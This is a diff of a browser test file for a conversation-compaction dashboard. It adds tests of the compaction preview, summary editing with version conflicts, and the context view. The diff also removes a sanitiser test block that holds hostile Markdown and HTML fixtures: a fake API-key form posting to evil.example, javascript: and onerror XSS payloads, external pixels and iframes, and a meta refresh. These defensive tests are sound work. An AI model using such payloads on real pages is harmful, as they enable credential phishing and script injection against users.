@@ -4,7 +4,11 @@
  * sessions list, a session with 200 checkpoints (one chart point each) and one with 50
  * summary versions (the diff shows the changed line), each loaded in under a second;
  * the compaction preview (a masked tool result coloured as such, the summary shown);
+ * issue 19's defects: the preview labels only messages the output changed, shows what
+ * the model receives, counts an uploaded log for its own model; a session page edits its
+ * summary (a 409 shown as a conflict) and shows its current /context;
  * the key prompt when keys exist; no CSP violation and no script error anywhere.
+ * The summary sanitiser's tests are in ui-sanitize.test.ts.
  * Screenshots go to docs/img/ (the README shows them) when UPDATE_SCREENSHOTS=1, so a test run
  * does not rewrite tracked files; otherwise they go to the OS temp directory.
  *
@@ -18,19 +22,12 @@ import type { AddressInfo } from 'node:net'
 import { chromium, type Browser, type Page } from 'playwright-core'
 import os from 'node:os'
 import t from 'tap'
-import type * as Tap from 'tap'
 import { uiBuildDir } from '../src/plugins/ui.ts'
-import { markdownHtml, SAFE_HREF, SUMMARY_ALLOWED_ATTR, SUMMARY_ALLOWED_TAGS, SUMMARY_SANITIZE_CONFIG } from '../ui/src/sanitize.ts'
 import { createApiKey } from '../src/tenancy/api-keys.ts'
+import { claudeCodeLog } from './helpers/agent-logs.ts'
 import { buildTestApp } from './helpers/build.ts'
+import { CHROMIUM_SKIP as SKIP, chromiumPath as executablePath } from './helpers/chromium.ts'
 import { exchange, toolConversation } from './helpers/session-conversations.ts'
-
-const CANDIDATES = [process.env.CHROMIUM_PATH, '/usr/bin/chromium', '/usr/bin/chromium-browser'].filter((p): p is string => !!p)
-const executablePath = CANDIDATES.find((p) => fs.existsSync(p))
-const SKIP = executablePath
-  ? false
-  : `no chromium found (${CANDIDATES.join(', ')}): install Debian's package (apt-get install chromium; .ci/run does) or set CHROMIUM_PATH; browser tests skipped`
-if (!executablePath) console.log(`# ${SKIP}`)
 
 const IMG = process.env.UPDATE_SCREENSHOTS === '1' ? new URL('../docs/img/', import.meta.url) : new URL(`file://${os.tmpdir()}/compactd-ui-shots-${process.pid}/`)
 const LOAD_BUDGET_MS = 1000
@@ -93,8 +90,9 @@ t.test('the dashboard in chromium', { skip: SKIP }, async (t) => {
   const page: Page = await context.newPage()
   const problems: string[] = []
   page.on('console', (m) => {
-    // A 404 (a session without checkpoints, a series without a session) and the 401 that asks for a key are answers, not faults.
-    if (/Failed to load resource: the server responded with a status of (404|401)/.test(m.text())) return
+    // A 404 (a session without checkpoints, a series without a session), the 401 that asks for a key and the
+    // 409 of a summary edited meanwhile (the conflict test) are answers, not faults.
+    if (/Failed to load resource: the server responded with a status of (404|401|409)/.test(m.text())) return
     if (m.type() === 'error' || /Content.Security.Policy/i.test(m.text())) problems.push(`console ${m.type()}: ${m.text()}`)
   })
   page.on('pageerror', (e) => problems.push(`page error: ${e.message}`))
@@ -212,6 +210,141 @@ t.test('the dashboard in chromium', { skip: SKIP }, async (t) => {
     t.same(await unlabelled(), [], 'every control has a label')
   })
 
+  // --- Issue 19: what the preview labels and shows, the model it counts for, and a session's summary editor and context.
+  const previewBody = { messages: toolConversation(40, 0, UI_TASK), targetTokens: 4000, keepRecent: 2 }
+  const runPreview = async (fill: () => Promise<void>) => {
+    await page.goto(`${base}/ui/#/preview`)
+    await page.waitForSelector('#conv-input')
+    await fill()
+    await page.getByRole('button', { name: 'Preview' }).click()
+    await page.waitForSelector('[data-testid=preview-table]', { timeout: 30_000 })
+  }
+  const rowsBy = (selector: string) => page.locator(`[data-testid=preview-table] ${selector}`).evaluateAll((rows) => rows.map((r) => Number(r.getAttribute('data-index'))))
+
+  await t.test('preview: only messages that came back changed are labelled masked or condensed; the rest are kept', async (t) => {
+    // The same request as the page's, answered by the API: which input messages the output changed.
+    const res = (await ok({ method: 'POST', url: '/compact', payload: { ...previewBody, strategy: ['mask', 'rules'], force: true } })).json()
+    const outputs = res.messages.filter((_: unknown, i: number) => i !== res.summary.index)
+    const planOf = (i: number) => res.plan.find((p: { from: number; to: number }) => p.from <= i && i <= p.to)
+    const standing = previewBody.messages.map((_, i) => i).filter((i) => planOf(i).action !== 'summarize')
+    t.equal(outputs.length, standing.length, 'one output message per message not summarised')
+    const changed = standing.filter((i, k) => JSON.stringify(previewBody.messages[i]) !== JSON.stringify(outputs[k]))
+    const unchangedInCondensed = standing.filter((i) => planOf(i).action === 'condense' && !changed.includes(i))
+    t.ok(changed.length > 0 && unchangedInCondensed.length > 0, `the plan condenses ${changed.length + unchangedInCondensed.length} messages; the output changed ${changed.length}`)
+
+    await runPreview(async () => {
+      await page.getByLabel(/^Conversation/).fill(JSON.stringify(previewBody.messages))
+      await page.getByLabel('Budget (tokens)').fill('4000')
+      await page.getByLabel('keepRecent').fill('2')
+    })
+    t.same(await rowsBy('tr[data-action=mask], tr[data-action=condense]'), changed, 'masked or condensed: exactly the messages the output changed')
+    const kept = await rowsBy('tr[data-action=keep]')
+    t.ok(unchangedInCondensed.every((i) => kept.includes(i)), 'a message its range condensed but that came back byte-identical is kept')
+    for (const row of await page.locator('[data-testid=preview-table] tr[data-action=mask], [data-testid=preview-table] tr[data-action=condense]').all()) {
+      const [before, after] = (await row.locator('td.num').allTextContents()).map((c) => Number(c.replace(/,/g, '')))
+      if (!(after! < before!)) t.fail(`row ${await row.getAttribute('data-index')} labelled changed at ${before} → ${after} tokens`)
+    }
+  })
+
+  await t.test('preview: the content column shows what the model receives, with the original behind a disclosure', async (t) => {
+    // (The page still shows the previous test's preview.)
+    const res = (await ok({ method: 'POST', url: '/compact', payload: { ...previewBody, strategy: ['mask', 'rules'], force: true } })).json()
+    const masked = page.locator('[data-testid=preview-table] tr[data-action=mask]').first()
+    const index = Number(await masked.getAttribute('data-index'))
+    t.match(await masked.locator('td.content .received').textContent(), /^\[output masked by compactd\]/, 'the masked text, as sent')
+    t.match(await masked.locator('td.content details.original').textContent(), new RegExp(`^original// src/f${(index - 3) / 2}\\.ts`), 'the original behind "original"')
+    const keptRow = page.locator('[data-testid=preview-table] tr[data-action=keep][data-index="1"]')
+    t.equal(await keptRow.locator('td.content .received').textContent(), UI_TASK, 'a kept message as it is')
+    t.equal(await keptRow.locator('details.original').count(), 0, 'no "original" when nothing changed')
+    const summaryRow = page.locator('[data-testid=preview-table] tr[data-summary-row]')
+    t.equal(await summaryRow.count(), 1, 'the summary message has its row')
+    t.equal((await summaryRow.locator('.received').textContent())!.slice(0, 40), res.summary.text.slice(0, 40), "the summary message's text")
+    t.match(await page.locator('[data-testid=preview-table] tr[data-action=summarize] td.content').first().textContent(), /folded into the summary message/)
+  })
+
+  await t.test("preview: an uploaded agent log is counted for the model it records, unless one is chosen", async (t) => {
+    const log = claudeCodeLog({ work: 30 })
+    const imported = (await ok({ method: 'POST', url: '/import', payload: { log } })).json()
+    const logModel: string = imported.session.model
+    const count = async (model?: string) => (await ok({ method: 'POST', url: '/estimate', payload: { messages: imported.messages, ...(model ? { model } : {}) } })).json().totalTokens as number
+    const [forLog, forDefault] = [await count(logModel), await count()]
+    t.not(forLog, forDefault, `the log's model counts differently (${forLog} against ${forDefault})`)
+    await runPreview(async () => {
+      await page.locator('#conv-file').setInputFiles({ name: 'session.jsonl', mimeType: 'application/x-ndjson', buffer: Buffer.from(log) })
+      await page.waitForFunction(() => ((globalThis as any).document.querySelector('#conv-input')?.value ?? '').length > 0)
+      t.equal(await page.locator('#conv-kind').inputValue(), 'agent-log', 'a .jsonl upload is read as an agent log')
+      await page.getByLabel('Input').selectOption('agent-log') // (already: the model, not the detection, is under test)
+    })
+    t.match(await page.textContent('[data-testid=preview-model]'), new RegExp(`${logModel} \\(the uploaded log's model\\)`))
+    t.equal(await page.textContent('[data-testid=preview-tokens-before]'), forLog.toLocaleString('en-US'), "counted for the log's model, as the CLI counts it")
+    await page.getByLabel('Model').fill('gpt-4o')
+    await page.getByRole('button', { name: 'Preview' }).click()
+    await page.waitForFunction(() => /as chosen/.test((globalThis as any).document.querySelector('[data-testid=preview-model]')?.textContent ?? ''), undefined, { timeout: 30_000 })
+    t.match(await page.textContent('[data-testid=preview-model]'), /gpt-4o \(as chosen\)/)
+    t.equal(await page.textContent('[data-testid=preview-tokens-before]'), forDefault.toLocaleString('en-US'), 'a model chosen by hand wins')
+  })
+
+  // A rolling-summary session with a system prompt, for the summary editor and the context.
+  await ok({ method: 'PUT', url: '/sessions/ui-edit', payload: { windowMessages: 8, batchSize: 1, system: 'You are a coding agent.' } }, 201)
+  for (let i = 0; i < 3; i++) {
+    await ok({ method: 'POST', url: '/sessions/ui-edit/messages', payload: { messages: exchange(i, { fail: i % 2 === 0 }) } })
+    await app.summaryWorker.runOnce()
+  }
+  const summaryOf = async () => (await ok({ method: 'GET', url: '/sessions/ui-edit/summary' })).json()
+  const textIn = (selector: string, re: RegExp) =>
+    page.waitForFunction(([s, r]) => new RegExp(r).test((globalThis as any).document.querySelector(s)?.textContent ?? ''), [selector, re.source] as const, { timeout: 20_000 })
+
+  await t.test('a session page shows the context the model gets now (GET /context)', async (t) => {
+    const context = (await ok({ method: 'GET', url: '/sessions/ui-edit/context' })).json()
+    await timed(`${base}/ui/#/s/ui-edit`, '[data-testid=context-messages] li')
+    const figures = await page.textContent('[data-testid=context-figures]')
+    t.match(figures, `${context.tokens.toLocaleString('en-US')} of ${context.budget.toLocaleString('en-US')} tokens for ${context.model}`, 'its tokens, budget and model')
+    t.match(figures, `${context.messages.length} openai messages · summary v${context.summaryVersion}`)
+    const shown = await page.locator('[data-testid=context-messages] > li').allTextContents()
+    t.match(shown[0], /system.*You are a coding agent\./s, 'the system prompt first')
+    t.match(shown[1], new RegExp(`Summary of the earlier part of this session \\(rolling summary, version ${context.summaryVersion}\\)`), 'then the summary')
+    t.match(shown.at(-1), /Fixed src\/module2\.ts/, 'the window last')
+    await page.locator('#context-title').scrollIntoViewIfNeeded()
+    await page.screenshot({ path: new URL('session-context.png', IMG).pathname })
+  })
+
+  await t.test("a session's summary is edited on its page: PUT with the version read, then the page shows the new one", async (t) => {
+    const read = await summaryOf()
+    await page.getByRole('button', { name: 'Edit summary' }).click()
+    t.equal(await page.getByLabel(/^Summary \(Markdown/).inputValue(), read.content, 'the stored document, comments and all')
+    await page.getByLabel(/^Summary \(Markdown/).fill(read.content.replace('\n\n## Continuation', '\n4. Decided by hand to ship on Friday\n\n## Continuation'))
+    await page.getByRole('button', { name: 'Save' }).click()
+    await textIn('[data-testid=summary-version]', new RegExp(`^v${read.version + 1} `))
+    const saved = await summaryOf()
+    t.same([saved.version, saved.source], [read.version + 1, 'manual'], 'stored as the next version, by hand')
+    t.match(saved.text, /Decided by hand to ship on Friday/)
+    t.match(await page.textContent('[data-testid=current-summary]'), /Decided by hand to ship on Friday/, 'the page shows the saved summary')
+    await textIn('[data-testid=context-messages]', /ship on Friday/)
+    t.pass('and the context sends it')
+    t.match(await page.locator('[data-testid=diff] ins').allTextContents(), [/Decided by hand to ship on Friday/], 'the new version opens its diff')
+  })
+
+  await t.test('a summary edited meanwhile by someone else is a conflict, not an overwrite', async (t) => {
+    const read = await summaryOf()
+    await page.getByRole('button', { name: 'Edit summary' }).click()
+    const draft = read.content.replace('ship on Friday', 'ship on Saturday')
+    await page.getByLabel(/^Summary \(Markdown/).fill(draft)
+    await ok({ method: 'PUT', url: '/sessions/ui-edit/summary', payload: { baseVersion: read.version, content: read.content.replace('ship on Friday', 'ship on Monday') } })
+    await page.getByRole('button', { name: 'Save' }).click()
+    await page.waitForSelector('[data-testid=summary-conflict]')
+    t.match(await page.textContent('[data-testid=summary-conflict]'), new RegExp(`someone else updated the summary \\(it is now version ${read.version + 1}\\).*Nothing was saved`, 's'))
+    t.equal(await page.getByLabel(/^Summary \(Markdown/).inputValue(), draft, 'the draft is still there to copy')
+    await page.locator('#summary-title').scrollIntoViewIfNeeded()
+    await page.screenshot({ path: new URL('session-summary-edit.png', IMG).pathname })
+    const now = await summaryOf()
+    t.equal(now.version, read.version + 1, 'nothing written')
+    t.match(now.text, /ship on Monday/)
+    await page.getByRole('button', { name: 'Reload the summary' }).click()
+    await textIn('[data-testid=current-summary]', /ship on Monday/)
+    t.match(await page.textContent('[data-testid=summary-version]'), new RegExp(`^v${read.version + 1} `), 'the version written meanwhile, shown')
+    t.same(await unlabelled(), [], 'every control has a label')
+  })
+
   await t.test('with keys: the key is asked for once, kept in sessionStorage, never in a URL', async (t) => {
     const { key } = await createApiKey(app.db, 'default-ui')
     await app.authOpenMode({ refresh: true })
@@ -233,120 +366,4 @@ t.test('the dashboard in chromium', { skip: SKIP }, async (t) => {
   })
 
   t.same(problems, [], 'no CSP violation, console error or script error')
-})
-
-// ---------------------------------------------------------------------------
-// The summary sanitiser (ui/src/sanitize.ts). DOMPurify's defaults kept <form>, <input>,
-// <button>, <style> and external <img> in a rendered summary: a summary (a model's or a
-// caller's text) could draw a fake key prompt, restyle the page or fetch another origin.
-
-/** Markdown holding everything a summary must not render, and everything it needs. */
-const HOSTILE_SUMMARY = [
-  '## Session Summary (Compaction Round 1)',
-  '',
-  '<form action="https://evil.example/steal"><input name="key" placeholder="API key"><textarea>t</textarea><select><option>o</option></select><button type="submit">Save key</button></form>',
-  '',
-  '<style>body { display: none }</style>',
-  '',
-  '![pixel](https://evil.example/pixel.png) <img src="https://evil.example/x.png" onerror="alert(1)"> <img src="data:image/png;base64,iVBORw0KGgo=">',
-  '',
-  '<a href="javascript:alert(1)">js link</a> [data link](data:text/html,hi) [good link](https://example.com/docs) <a href="https://example.com/x" onclick="alert(1)" style="color:red" class="error">styled link</a>',
-  '',
-  '<svg><circle r="5"/></svg><iframe src="https://evil.example/frame"></iframe><object data="https://evil.example/o"></object><link rel="stylesheet" href="https://evil.example/s.css"><meta http-equiv="refresh" content="0;url=https://evil.example"><span style="color:red" class="error" data-x="1">span text</span><div aria-label="x">div text</div>',
-  '',
-  '### Pending Steps',
-  '- [ ] run npm test',
-  '- [x] read src/db.ts',
-  '',
-  '1. first',
-  '2. second',
-  '',
-  '| file | fate |',
-  '|:-----|-----:|',
-  '| src/db.ts | edited |',
-  '',
-  '`code` **bold** _em_ ~~gone~~',
-  '',
-  '> quoted',
-  '',
-  '---',
-  '',
-  '```ts',
-  'const x = 1',
-  '```',
-].join('\n')
-
-const FORBIDDEN_TAGS = ['form', 'input', 'button', 'textarea', 'select', 'option', 'style', 'img', 'svg', 'iframe', 'object', 'embed', 'link', 'meta', 'script', 'span', 'div', 'math', 'template']
-
-t.test('the summary sanitiser keeps only the tags a summary needs (its configuration, in node)', async (t) => {
-  for (const tag of ['h1', 'h2', 'h3', 'p', 'ul', 'ol', 'li', 'pre', 'code', 'table', 'thead', 'tbody', 'tr', 'th', 'td', 'em', 'strong', 'del', 'a', 'blockquote', 'hr', 'br']) {
-    t.ok(SUMMARY_ALLOWED_TAGS.includes(tag), `${tag} allowed`)
-  }
-  for (const tag of FORBIDDEN_TAGS) t.notOk(SUMMARY_ALLOWED_TAGS.includes(tag), `${tag} not allowed`)
-  t.same([...SUMMARY_ALLOWED_ATTR].sort(), ['align', 'href', 'start', 'title'], 'no style, class, src, on*, data-* or aria-* attribute')
-  t.same(SUMMARY_SANITIZE_CONFIG.ALLOWED_TAGS, SUMMARY_ALLOWED_TAGS, 'the configuration is the list (it replaces DOMPurify\'s defaults)')
-  t.equal(SUMMARY_SANITIZE_CONFIG.ALLOW_DATA_ATTR, false)
-  t.equal(SUMMARY_SANITIZE_CONFIG.ALLOW_ARIA_ATTR, false)
-  for (const href of ['https://example.com', 'http://x.test/a', 'mailto:a@b.c', '#section']) t.match(href, SAFE_HREF, `${href} kept`)
-  for (const href of ['javascript:alert(1)', 'data:text/html,hi', 'vbscript:x', '//evil.example/x', 'src/db.ts', 'file:///etc/passwd']) t.notMatch(href, SAFE_HREF, `${href} dropped`)
-  // Task lists (how pending steps are written) need no <input>: the checkbox is a character.
-  const html = markdownHtml('- [ ] run npm test\n- [x] read src/db.ts\n')
-  t.notMatch(html, /<input/, 'no checkbox input')
-  t.match(html, /☐ run npm test/)
-  t.match(html, /☑ read src\/db.ts/)
-})
-
-t.test('the summary sanitiser in chromium: hostile markup is dropped, a summary\'s structure kept, in the module and on the dashboard', { skip: SKIP }, async (t) => {
-  const { build } = await import('esbuild')
-  const bundle = await build({ entryPoints: [new URL('../ui/src/sanitize.ts', import.meta.url).pathname], bundle: true, format: 'iife', globalName: 'Sanitize', write: false, target: 'es2020', logLevel: 'silent' })
-  const browser: Browser = await chromium.launch({ executablePath, args: ['--no-sandbox', '--disable-dev-shm-usage'] })
-  t.teardown(() => browser.close())
-  const page: Page = await browser.newPage()
-  const outside: string[] = []
-  page.on('request', (r) => {
-    if (/evil\.example/.test(r.url())) outside.push(r.url())
-  })
-
-  /** Tag counts, links and text of the element matching `selector`. */
-  const inspect = (selector: string) =>
-    page.evaluate<{ tags: Record<string, number>; links: { href: string | null; rel: string | null; attrs: string[] }[]; attrs: string[]; text: string }>(`(() => {
-      const root = document.querySelector(${JSON.stringify(selector)})
-      const tags = {}
-      for (const el of root.querySelectorAll('*')) tags[el.localName] = (tags[el.localName] ?? 0) + 1
-      const attrs = [...new Set([...root.querySelectorAll('*')].flatMap((el) => [...el.attributes].map((a) => a.name)))].sort()
-      const links = [...root.querySelectorAll('a')].map((a) => ({ href: a.getAttribute('href'), rel: a.getAttribute('rel'), attrs: [...a.attributes].map((x) => x.name).sort() }))
-      return { tags, links, attrs, text: root.textContent }
-    })()`)
-
-  const check = async (t: Tap.Test, selector: string, label: string) => {
-    const { tags, links, attrs, text } = await inspect(selector)
-    for (const tag of FORBIDDEN_TAGS) t.notOk(tags[tag], `${label}: no <${tag}>`)
-    for (const tag of ['h2', 'h3', 'ul', 'ol', 'li', 'table', 'th', 'td', 'code', 'pre', 'strong', 'em', 'del', 'blockquote', 'hr', 'a']) t.ok(tags[tag], `${label}: <${tag}> kept`)
-    t.same(attrs.filter((a) => !['href', 'title', 'align', 'start', 'target', 'rel'].includes(a)), [], `${label}: no other attribute (style, class, on*, src, data-*, aria-*)`)
-    t.same(links.map((l) => l.href), [null, null, 'https://example.com/docs', 'https://example.com/x'], `${label}: only http(s) hrefs survive`)
-    t.ok(links.filter((l) => l.href).every((l) => l.rel === 'noopener noreferrer'), `${label}: links without opener or referrer`)
-    t.match(text, /☐ run npm test[\s\S]*☑ read src\/db\.ts/, `${label}: the task list, as characters`)
-    t.notMatch(text, /display: none/, `${label}: a style's text is not shown either`)
-  }
-
-  await t.test('the module, in a page', async (t) => {
-    await page.setContent('<!doctype html><html><body><div id="out"></div></body></html>')
-    await page.addScriptTag({ content: bundle.outputFiles[0]!.text })
-    await page.evaluate(`document.getElementById('out').innerHTML = Sanitize.renderMarkdown(${JSON.stringify(HOSTILE_SUMMARY)})`)
-    await check(t, '#out', 'module')
-  })
-
-  await t.test('a stored summary on the dashboard', async (t) => {
-    if (!uiBuildDir()) execFileSync('npm', ['run', 'build:ui'], { cwd: new URL('..', import.meta.url), stdio: 'inherit' })
-    const { app } = await buildTestApp(t)
-    t.equal((await app.inject({ method: 'PUT', url: '/sessions/ui-hostile', payload: {} })).statusCode, 201)
-    const put = await app.inject({ method: 'PUT', url: '/sessions/ui-hostile/summary', payload: { content: HOSTILE_SUMMARY } })
-    t.equal(put.statusCode, 200, 'stored as written')
-    await app.listen({ host: '127.0.0.1', port: 0 })
-    const base = `http://127.0.0.1:${(app.server.address() as AddressInfo).port}`
-    await page.goto(`${base}/ui/#/s/ui-hostile`)
-    await page.waitForSelector('[data-testid=current-summary] h2', { timeout: 20_000 })
-    await check(t, '[data-testid=current-summary]', 'dashboard')
-  })
-  t.same(outside, [], 'no request to another origin')
 })
